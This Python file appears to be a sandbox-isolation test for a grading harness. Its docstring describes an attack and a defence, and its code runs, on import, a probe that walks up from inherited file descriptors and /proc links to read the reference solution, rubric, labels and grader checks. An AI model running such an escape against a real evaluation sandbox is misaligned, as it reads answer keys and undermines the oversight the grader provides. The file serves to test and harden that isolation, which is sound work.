"""Attack: reach the repository, the rubric or the MNIST labels through a descriptor the sandbox left open.

A directory descriptor opened before the masks were mounted still points into the host's tree:
``openat(fd, "../../reference/vit.py")`` walks up from it without crossing a mask. Tried on every
inherited descriptor and on its ``/proc/self/fd/N`` link (and ``/proc/self/cwd``), up to eight levels up.
Defense: before the harness imports the submission, every descriptor but stdin, the log and the
two protocol pipes is closed (the child checks ``/proc/self/fd`` and refuses to start otherwise), and
the descriptors the isolation itself opens are closed as soon as their bind mount is made.
"""

import os

import torch

SECRETS = ("reference/vit.py", "reference/rubric.toml", "reference/data", "grader/checks", "pyproject.toml")


def descriptors() -> torch.Tensor:
    """(fd, kind) of every open descriptor; kind 0 = pipe, 1 = /dev/null, 2 = anything else."""
    rows = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:  # the descriptor os.listdir used, closed by now
            continue
        kind = 0 if target.startswith("pipe:") else 1 if target == "/dev/null" else 2
        rows.append([int(name), kind])
        print("fd", name, target)
    return torch.tensor(rows, dtype=torch.int64).reshape(-1, 2)  # (num_fds, 2)


def _bases() -> list[tuple[int | None, str]]:
    """(dir_fd, path prefix) pairs to walk up from: each inherited descriptor, its /proc link, cwd."""
    bases: list[tuple[int | None, str]] = [(None, "/proc/self/cwd/"), (None, "/proc/self/root/")]
    for name in os.listdir("/proc/self/fd"):
        if name.isdigit() and int(name) > 2:
            bases += [(int(name), ""), (None, f"/proc/self/fd/{name}/")]
    return bases


def _try(dir_fd: int | None, path: str) -> bytes | None:
    try:
        fd = os.open(path, os.O_RDONLY, dir_fd=dir_fd)
    except OSError:
        return None
    try:
        if os.path.isdir(f"/proc/self/fd/{fd}"):
            return ("\n".join(os.listdir(fd))).encode()
        return os.read(fd, 4096)
    except OSError:
        return None
    finally:
        os.close(fd)


def escape() -> torch.Tensor:
    """How many secret paths were read through an inherited descriptor (0 when contained)."""
    found = 0
    for dir_fd, prefix in _bases():
        for depth in range(9):
            up = "../" * depth
            for secret in SECRETS:
                data = _try(dir_fd, prefix + up + secret)
                if data:
                    found += 1
                    print("FOUND", dir_fd, prefix + up + secret, data[:200])
    return torch.tensor([found])


escape()
